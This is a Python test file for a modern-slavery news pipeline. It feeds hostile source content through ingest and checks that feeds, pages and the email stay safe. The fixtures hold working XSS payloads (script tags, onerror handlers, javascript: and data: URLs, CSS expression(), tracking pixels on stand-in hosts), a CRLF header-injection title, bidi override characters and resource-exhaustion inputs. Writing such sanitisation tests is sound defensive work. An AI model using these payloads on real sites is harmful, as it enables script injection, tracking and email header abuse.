"""Hostile content from a source, served by the mirror into a real ingest (SQLite and PostgreSQL),
then published: script tags, event handlers, javascript: URLs, CSS (style attributes and tags,
expression()) and tracking pixels in titles and summaries are inert in the feeds, the index page
and the email; a newline in a title cannot add an email header; NUL, other control characters and
the bidirectional overrides reach none of them."""

from __future__ import annotations

import json
import re
from collections import Counter
from datetime import UTC, datetime
from html import escape as html_escape
from pathlib import Path

from hostile_cases import feed_with_items
from lxml import etree, html
from mirror_fixture import FIXTURES, start_mirror
from reliability import cycle, settings_for

from feeds.build import build_site
from feeds.publish import write_site
from pipeline.briefing import run_briefing
from pipeline.settings import Settings
from pipeline.site import load_site_data
from tests.smtp_server import smtp_server
from vocabulary.weeks import format_week

ATTACK_TITLE = ('Evil <script>alert("t1")</script><img src="http://tracker.example/t.gif" onerror="alert(2)">'
                '<a href="javascript:alert(3)" style="color:red">headline</a>\r\nBcc: evil@example.org')
ATTACK_SUMMARY = (
    '<p onclick="alert(4)">Summary</p><script>alert("s1")</script><style>body{background:url(//tracker.example/s)}</style>'
    '<a href="javascript:alert(5)">click</a><a href=" JaVaScRiPt:alert(6)">spaced</a>'
    '<div style="width:expression(alert(7));background:url(http://tracker.example/bg.png)">css</div>'
    '<img src="http://tracker.example/pixel.gif" width="1" height="1"><img src="https://tracker.example/p2">'
    '<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object>'
    '<svg onload="alert(8)"><use href="http://evil.example/#x"/></svg><form action="http://evil.example/"><input></form>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">data</a>'
)
EVIL_ATLEU_TITLE = '<img src=x onerror=alert(10)>ATLEU\x00\u202e\u2066\x1b\nX-Injected: yes'
# what must reach no database, feed, page or email (JSON carries them all; XML only the overrides)
UNWANTED = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def hostile_feed() -> str:
    rss = (FIXTURES / "sentencing_council" / "feed" / "page-1.xml").read_text(encoding="utf-8")
    first = rss.index("<item>")
    item = ("<item><title><![CDATA[" + ATTACK_TITLE + "]]></title>"
            "<link>https://www.sentencingcouncil.org.uk/news/item/hostile-item/</link>"
            f"<pubDate>{datetime.now(UTC).strftime('%a, %d %b %Y %H:%M:%S +0000')}</pubDate>"
            "<description><![CDATA[" + ATTACK_SUMMARY + "]]></description>"
            "<content:encoded><![CDATA[" + ATTACK_SUMMARY + "]]></content:encoded></item>")
    return rss[:first] + item + rss[first:]


def hostile_atleu() -> str:
    data = json.loads((FIXTURES / "atleu" / "cases-news.page-1.json").read_text(encoding="utf-8"))
    data["items"][0]["title"] = EVIL_ATLEU_TITLE
    data["items"][0]["excerpt"] = ATTACK_SUMMARY + "<p>NUL\x00 and\u202e overrides\u2067</p>"
    return json.dumps(data)


def hostile_parliament() -> str:
    """The 2026 question read by id, its heading, member and answer hostile, its steps in this week."""
    data = json.loads((FIXTURES / "parliament" / "questions" / "1905117.json").read_text(encoding="utf-8"))
    value = data["value"]
    today = datetime.now(UTC).date().isoformat() + "T00:00:00"
    value.update(heading=ATTACK_TITLE, dateAnswered=today, dateAnswerCorrected=today,
                 answerText="<p>Parliament " + ATTACK_SUMMARY + " NUL\x00 and\u202e on modern slavery.</p>" + value["answerText"])
    value["askingMember"]["name"] = EVIL_ATLEU_TITLE
    return json.dumps(data)


def hostile_nca() -> str:
    feed = (FIXTURES / "nca" / "news.rss.xml").read_text(encoding="utf-8")
    item = ("<item><title><![CDATA[NCA " + ATTACK_TITLE + " modern slavery]]></title>"
            "<link>https://www.nationalcrimeagency.gov.uk/news/hostile-item</link>"
            f"<pubDate>{datetime.now(UTC).strftime('%a, %d %b %Y %H:%M:%S +0000')}</pubDate>"
            "<description><![CDATA[" + ATTACK_SUMMARY + " modern slavery]]></description></item>")
    return feed.replace("<item>", item + "<item>", 1)


def hostile_glaa() -> str:
    page = (FIXTURES / "glaa" / "latest.html").read_text(encoding="utf-8")
    return page.replace("CEO Stakeholder blog - November 2025</a>",
                        "GLAA <script>alert(11)</script><img src=x onerror=alert(12)>\u202e blog</a>", 1)


def problems_in_html(doc, where: str, *, own_style_ok: bool = True) -> list[str]:  # type: ignore[no-untyped-def]
    """Everything active or remote that survived in an HTML document or fragment."""
    found = []
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.lower().split("}")[-1]
        if tag in ("script", "iframe", "object", "embed", "form", "input", "base", "frame", "applet"):
            found.append(f"{where}: <{tag}> survived")
        if tag == "style":
            css = (el.text or "").lower()
            if not own_style_ok or "tracker" in css or "expression(" in css or "url(" in css:
                found.append(f"{where}: source <style> survived: {css[:80]!r}")
        for name, value in el.attrib.items():
            name_l, value_l = name.lower(), re.sub(r"\s", "", value).lower()
            if name_l.startswith("on"):
                found.append(f"{where}: event handler {name}={value!r} on <{tag}>")
            if name_l == "style" and ("expression(" in value_l or "url(" in value_l or "tracker" in value_l):
                found.append(f"{where}: style attribute {value!r}")
            if name_l in ("href", "src", "action", "data", "xlink:href", "formaction") and \
                    value_l.startswith(("javascript:", "vbscript:", "data:")):
                found.append(f"{where}: {name}={value!r} on <{tag}>")
            if tag == "img" and name_l == "src" and value_l.startswith(("http:", "https:", "//")):
                found.append(f"{where}: remote image (tracking pixel) {value!r}")
    return found


def html_fragments_of_feed(data: bytes) -> list[tuple[str, str]]:
    """(where, HTML) of every element a feed reader renders as HTML: RSS description/content, Atom html content."""
    root = etree.fromstring(data)
    out = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        local = etree.QName(el).localname
        is_html = local in ("description", "encoded") or (
            local in ("summary", "content", "title", "subtitle") and el.get("type") in ("html", "xhtml"))
        if is_html and el.text:
            out.append((local, el.text))
        if local == "title":
            out.append(("title (as a reader may render it)", el.text or ""))
    return out


def test_hostile_titles_and_summaries_are_inert_everywhere(engine, db_url, tmp_path):
    with start_mirror() as mirror:
        mirror.put_response("/sentencing_council/feed/", hostile_feed(), content_type="application/rss+xml")
        mirror.put_response("/atleu/cases-news?format=json", hostile_atleu(), content_type="application/json")
        mirror.put_response("/parliament/api/writtenquestions/questions/1905117?expandMember=true&sessionStatus=Any",
                            hostile_parliament(), content_type="application/json")
        mirror.put_response("/nca/news?format=feed&type=rss", hostile_nca(), content_type="application/rss+xml")
        mirror.put_response("/glaa/whats-new/latest-press-releases/", hostile_glaa(), content_type="text/html")
        settings = settings_for(mirror, db_url, tmp_path / "var")
        reports = cycle(settings, engine)
        assert all(r.status == "ok" for r in reports.values()), {n: r.error for n, r in reports.items()}

    files = build_site(load_site_data(engine), site_url="https://msbrief.example.org/", max_entries=500)
    write_site(settings.public_dir, files)
    problems: list[str] = []
    saw_item = False
    for name, data in files.items():
        if name.endswith(".xml"):
            for where, fragment in html_fragments_of_feed(data):
                saw_item |= "headline" in fragment or "Summary" in fragment
                problems += problems_in_html(html.fragment_fromstring(fragment, create_parent="div"),
                                             f"{name} {where}", own_style_ok=False)
        elif name.endswith(".html"):
            problems += problems_in_html(html.fromstring(data), name)
    assert saw_item, "the hostile item never reached the feeds: the test proves nothing"
    index = files["index.html"].decode("utf-8")
    assert "Evil" in index or "headline" in index, "the hostile item is not on the index page"

    week = format_week(datetime.now(UTC).date())
    with smtp_server(tmp_path, mode="plain", auth=False) as server:
        brief = Settings(database_url=db_url, output_dir=tmp_path / "var", smtp_url=f"smtp+plain://127.0.0.1:{server.port}",
                         recipients=["staff@example.org"], mail_from="msbrief <briefing@example.org>",
                         briefing_window_weeks=100_000, briefing_off_topic="list")  # every hostile item is news
        outcome = run_briefing(engine, brief, week=week, send=True, force=True, now=datetime.now(UTC))  # in progress
        assert outcome.ok, outcome.summary
        assert len(server.handler.messages) == 1
        received = server.handler.messages[0]
    assert Counter(received.rcpt_tos) == Counter(["staff@example.org"]), received.rcpt_tos
    msg = received.message()
    names = {k.lower() for k in msg.keys()}
    assert "bcc" not in names and "x-injected" not in names, f"a title added email headers: {sorted(names)}"
    assert all("evil@example.org" not in str(v) for v in msg.values()), msg.items()
    raw_headers = received.data.split(b"\r\n\r\n", 1)[0]
    assert b"\nBcc:" not in raw_headers and b"\nX-Injected:" not in raw_headers, raw_headers
    body_html = msg.get_body(preferencelist=("html",)).get_content()
    assert "headline" in body_html or "Evil" in body_html, "the hostile item is not in the email"
    problems += problems_in_html(html.fromstring(body_html), "email html")
    # the new sources' hostile items reached the feeds and the email's "In Parliament"
    parliament_part = body_html.split("In Parliament</h2>", 1)[1].split("</h2>", 1)[0]
    assert "Parliament " in parliament_part and "headline" in parliament_part, "the hostile answer is not in the email"
    assert any(b"NCA Evil" in data for name, data in files.items() if "source-nca" in name)
    assert any(b"GLAA" in data and b"blog" in data for name, data in files.items() if "source-glaa" in name)
    for name, data in files.items():
        found = UNWANTED.search(data.decode("utf-8"))
        assert not found, f"{name}: a control or override character {found[0]!r} was published"
    body_text = msg.get_body(preferencelist=("plain",)).get_content()
    for where, text in (("email text", body_text), ("email html", body_html), ("email subject", str(msg["Subject"]))):
        found = UNWANTED.search(text)
        assert not found, f"{where}: a control or override character {found[0]!r} was sent"
    assert not problems, "hostile content survived:\n" + "\n".join(problems)


# --- issue 26, round two: bounds, text and links at every depth, announcements, one-line failures ---

FOUR_AT_ONCE = """
import json, logging, sys, time
sys.path.insert(0, "tests")
from hostile_cases import attribute_feed, squarespace_items, unclosed_paragraphs
from mirror_fixture import start_mirror
from pipeline.cycle import ingest_all
from reliability import settings_for
from store.db import make_engine, upgrade

logging.disable(logging.WARNING)
db_url, out = sys.argv[1], sys.argv[2]
engine = make_engine(db_url)
upgrade(engine)
with start_mirror() as mirror:
    mirror.put_response("/sentencing_council/feed/", attribute_feed(200_000), content_type="application/rss+xml")
    mirror.put_response("/iasc/news-insights/", unclosed_paragraphs(10_000_000), content_type="text/html")
    mirror.put_response("/atleu/cases-news?format=json", squarespace_items(30_000), content_type="application/json")
    settings = settings_for(mirror, db_url, out, source_deadline=30, concurrent_sources=4, max_retries=0,
                            read_timeout=10)
    started = time.monotonic()
    reports = ingest_all(settings, engine, ["sentencing_council", "iasc", "atleu", "govuk_nrm"], run_id=None)
    wall = time.monotonic() - started
import resource
print(json.dumps({"wall": wall, "peak_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
                  "reports": {r.name: [r.status, r.error, r.new, r.warnings] for r in reports}}))
"""


def test_four_hostile_sources_at_once_stay_within_memory_and_the_deadline(db_url, tmp_path):
    """200,000 attributes on one element, 10 MB of unclosed <p> and 30,000 items on one page, served
    at once with a real source beside them: each hostile source fails alone with one line (or keeps
    the first MSBRIEF_MAX_ITEMS_PER_PAGE items), the real one is stored; under 500 MB, within the
    30 s source deadline plus 10 s."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", FOUR_AT_ONCE, db_url, str(tmp_path / "var")], capture_output=True,
                          text=True, timeout=300, check=False, cwd=Path(__file__).resolve().parent.parent)
    assert done.returncode == 0, done.stderr[-3000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    reports = result["reports"]
    assert reports["govuk_nrm"][0] == "ok" and reports["govuk_nrm"][2] > 0, reports["govuk_nrm"]
    assert reports["sentencing_council"][0] == "failed" and "MSBRIEF_MAX_ATTRIBUTES" in reports["sentencing_council"][1]
    assert reports["iasc"][0] == "failed" and "MSBRIEF_MAX_DOCUMENT_BYTES" in reports["iasc"][1]
    assert reports["atleu"][0] == "ok" and reports["atleu"][2] == 2_000, reports["atleu"][:3]
    assert any("MSBRIEF_MAX_ITEMS_PER_PAGE" in w for w in reports["atleu"][3]), reports["atleu"][3]
    for name, (status, error, _, _) in reports.items():
        assert status == "ok" or (error and "\n" not in error and len(error) < 500), (name, error)
    assert result["peak_mb"] < 500, result["peak_mb"]
    assert result["wall"] < 30 + 10, result["wall"]


ENCODED_MARKUP = '<script>alert("x")</script><img src="http://tracker.example/p.gif" onerror="alert(1)">Depth'
USERINFO_LINK = "https://www.sentencingcouncil.org.uk@evil.example/phish"


def encoded(text: str, depth: int) -> str:
    """`text` entity-encoded `depth` times (depth 0: as it is)."""
    for _ in range(depth):
        text = html_escape(text)
    return text


def live_markup(text: str, where: str) -> list[str]:
    """The elements a reader would render if it took `text` (a title, as written) for HTML."""
    fragment = html.fragment_fromstring(text or "", create_parent="div")
    return [f"{where}: <{el.tag}> in {text[:120]!r}" for el in fragment.iter() if el is not fragment
            and isinstance(el.tag, str)]


def test_markup_encoded_at_every_depth_is_never_live_on_any_surface(engine, db_url, tmp_path):
    """A title and a GOV.UK change note carrying markup entity-encoded 0 to 8 times (three was the
    limit before), and an item linking through user information: RSS, Atom, the page and the email
    show text only, and the userinfo link nowhere."""
    depths = range(9)
    items = [(html_escape(encoded(f"{ENCODED_MARKUP} {d}", d)), f"https://www.sentencingcouncil.org.uk/news/item/depth-{d}/")
             for d in depths]
    items.append(("Phishing link", html_escape(USERINFO_LINK)))
    guidance_path = "/govuk_guidance/api/content/government/publications/modern-slavery-how-to-identify-and-support-victims"
    guidance = json.loads((FIXTURES / "govuk_guidance" / "content" /
                           "government--publications--modern-slavery-how-to-identify-and-support-victims.json")
                          .read_text(encoding="utf-8"))
    history = guidance["details"]["change_history"]
    for d in depths:
        history.insert(0, {"public_timestamp": f"2026-01-{d + 10:02d}T10:00:00.000+00:00",
                           "note": encoded(f"{ENCODED_MARKUP} note {d}", d)})
    with start_mirror() as mirror:
        mirror.put_response("/sentencing_council/feed/", feed_with_items(items), content_type="application/rss+xml")
        mirror.put_response(guidance_path, json.dumps(guidance), content_type="application/json")
        settings = settings_for(mirror, db_url, tmp_path / "var")
        reports = cycle(settings, engine, ["sentencing_council", "govuk_guidance"])
    assert all(r.status == "ok" for r in reports.values()), {n: r.error for n, r in reports.items()}
    assert any("user information" in w for w in reports["sentencing_council"].warnings)

    files = build_site(load_site_data(engine), site_url="https://msbrief.example.org/", max_entries=500)
    problems: list[str] = []
    seen = 0
    for name, data in files.items():
        text = data.decode("utf-8")
        assert "evil.example" not in text, f"{name} publishes the userinfo link"
        if name.endswith(".xml"):
            root = etree.fromstring(data)
            for el in root.iter():
                if isinstance(el.tag, str) and etree.QName(el).localname == "title" and el.text:
                    seen += "Depth" in el.text
                    problems += live_markup(el.text, f"{name} title")
            for where, fragment in html_fragments_of_feed(data):
                problems += problems_in_html(html.fragment_fromstring(fragment, create_parent="div"), f"{name} {where}",
                                             own_style_ok=False)
                assert "<script" not in fragment.lower() and "onerror" not in fragment.lower(), (name, fragment[:300])
        elif name.endswith(".html"):
            doc = html.fromstring(data)
            problems += problems_in_html(doc, name)
            assert not doc.xpath("//script[contains(., 'alert')]"), name
    assert seen >= len(depths), f"only {seen} encoded titles reached the feeds: the test proves little"

    week = format_week(datetime.now(UTC).date())
    with smtp_server(tmp_path, mode="plain", auth=False) as server:
        brief = Settings(database_url=db_url, output_dir=tmp_path / "var", smtp_url=f"smtp+plain://127.0.0.1:{server.port}",
                         recipients=["staff@example.org"], mail_from="msbrief <briefing@example.org>",
                         briefing_window_weeks=100_000, briefing_off_topic="list")
        outcome = run_briefing(engine, brief, week=week, send=True, force=True, now=datetime.now(UTC))  # in progress
        assert outcome.ok, outcome.summary
        msg = server.handler.messages[0].message()
    body_html = msg.get_body(preferencelist=("html",)).get_content()
    body_text = msg.get_body(preferencelist=("plain",)).get_content()
    assert "Depth" in body_html, "the encoded titles are not in the email"
    problems += problems_in_html(html.fromstring(body_html), "email html")
    for where, text in (("email html", body_html), ("email text", body_text), ("email subject", str(msg["Subject"]))):
        assert "evil.example" not in text, f"{where} carries the userinfo link"
        assert "<script" not in text.lower() and "&lt;script" not in text.lower(), where
    assert not problems, "live markup published:\n" + "\n".join(problems)


def announcement_search(count: int) -> dict:
    """A GOV.UK search page listing `count` NRM announcements."""
    return {"results": [{"title": f"National Referral Mechanism statistics: hostile release {n}",
                         "link": f"/government/statistics/announcements/hostile-{n}", "content_id": f"h{n}"}
                        for n in range(count)], "total": count, "start": 0}


def announcement_doc(n: int, display: str) -> str:
    return json.dumps({"title": f"National Referral Mechanism statistics: hostile release {n}",
                       "base_path": f"/government/statistics/announcements/hostile-{n}",
                       "document_type": "official_statistics_announcement",
                       "details": {"state": "confirmed", "display_date": display}})


def test_announcements_are_bounded_and_one_dated_9999_never_stops_the_others(engine, db_url, tmp_path):
    """A search listing 400 announcements reads MSBRIEF_MAX_ANNOUNCEMENTS of them (one warning);
    one dated '31 December 9999 11:58pm' and one in 0001 are refused; the rest are stored and every
    one of those gets its release-time run."""
    from pipeline.releases import wanted_release_runs
    from scrapers.govuk import announcement_search_path

    limit = 12
    with start_mirror() as mirror:
        mirror.put_response("/govuk_nrm" + announcement_search_path(0), json.dumps(announcement_search(400)),
                            content_type="application/json")
        for n in range(limit):
            display = {0: "31 December 9999 11:58pm", 1: "1 January 0001 9:30am"}.get(n, f"{n + 1} May 2031 9:30am")
            mirror.put_response(f"/govuk_nrm/api/content/government/statistics/announcements/hostile-{n}",
                                announcement_doc(n, display), content_type="application/json")
        settings = settings_for(mirror, db_url, tmp_path / "var", max_announcements=limit)
        report = cycle(settings, engine, ["govuk_nrm"])["govuk_nrm"]
        asked = [e.path for e in mirror.log if "/announcements/hostile-" in e.path]
    assert report.status == "ok", report.error
    assert len(asked) == limit, f"{len(asked)} announcement documents fetched, limit {limit}"
    assert any("MSBRIEF_MAX_ANNOUNCEMENTS" in w for w in report.warnings), report.warnings
    assert sum("outside the years" in w for w in report.warnings) == 2, report.warnings
    runs = wanted_release_runs(engine, "govuk_nrm", datetime(2030, 1, 1, tzinfo=UTC), limit=100)
    hostile = [key for key in runs if "hostile-" in key]
    assert len(hostile) == limit - 2 and not any("hostile-0:" in k or "hostile-1:" in k for k in hostile), hostile


def test_a_stored_announcement_dated_9999_never_stops_the_others_being_scheduled(engine):
    """Stored before this fix: release_at 9999-12-31 23:58 made `at + 5 minutes` overflow, and no run
    was scheduled for any announcement (runs are at the announced minute now; the year check stays)."""
    from pipeline.releases import wanted_release_runs
    from scrapers.records import Announcement
    from store import repo
    from store.db import transaction

    with transaction(engine) as s:
        for n, at in enumerate((datetime(9999, 12, 31, 23, 58, tzinfo=UTC), datetime(2031, 5, 8, 8, 30, tzinfo=UTC))):
            repo.upsert_announcement(s, Announcement(url=f"https://www.gov.uk/government/statistics/announcements/a{n}",
                                                     title=f"NRM statistics {n}", state="confirmed", release_at=at))
        for n in range(5):
            repo.upsert_announcement(s, Announcement(url=f"https://www.gov.uk/government/statistics/announcements/b{n}",
                                                     title=f"NRM statistics b{n}", state="confirmed",
                                                     release_at=datetime(2032, 1, n + 1, 9, 30, tzinfo=UTC)))
    runs = wanted_release_runs(engine, "govuk_nrm", datetime(2030, 1, 1, tzinfo=UTC), limit=3)
    assert sorted(re.search(r"/announcements/(\w+):", key)[1] for key in runs) == ["a1", "b0", "b1"], runs
    assert min(r.at for r in runs.values()) == datetime(2031, 5, 8, 8, 30, tzinfo=UTC)  # from the announced minute


def test_database_trouble_is_one_short_line_without_sql(db_url, tmp_path, caplog):
    """A database without msbrief's tables (dropped and made again empty): each source fails with one
    short line, no SQL and no parameters, and nothing above debug level carries a traceback."""
    import logging

    from pipeline.cycle import ingest_all
    from store.db import make_engine

    bare = make_engine(db_url)  # no schema
    caplog.set_level(logging.DEBUG)
    try:
        with start_mirror() as mirror:
            reports = ingest_all(settings_for(mirror, db_url, tmp_path / "var"), bare, ["atleu", "iasc"], run_id=None)
    finally:
        bare.dispose()
    for report in reports:
        assert report.status == "failed" and report.error, report
        assert "\n" not in report.error and len(report.error) < 400, report.error
        assert not re.search(r"\[SQL:|\bSELECT\b|\bFROM\b|parameters:", report.error), report.error
    for record in caplog.records:
        if record.levelno >= logging.INFO:
            assert record.exc_info is None, f"a traceback at {record.levelname}: {record.getMessage()}"
            assert not re.search(r"\[SQL:|\bSELECT\b.+\bFROM\b", record.getMessage()), record.getMessage()


def test_a_publish_failure_is_one_line_without_a_traceback(engine, db_url, tmp_path, caplog):
    import logging

    from pipeline.cycle import run_cycle

    out = tmp_path / "var"
    out.mkdir()
    (out / "public").write_text("a file where the site folder goes")  # publishing cannot write there
    caplog.set_level(logging.DEBUG)
    with start_mirror() as mirror:
        report = run_cycle(settings_for(mirror, db_url, out), engine, ["atleu"])
    assert report.publish_failed and report.sources[0].status == "ok"
    failures = [w for w in report.warnings if "publishing the feeds failed" in w]
    assert len(failures) == 1 and "\n" not in failures[0] and "Traceback" not in failures[0], failures
    errors = [r for r in caplog.records if r.levelno >= logging.INFO and "publishing" in r.getMessage()]
    assert errors and all(r.exc_info is None for r in errors), [(r.levelname, r.getMessage()) for r in errors]
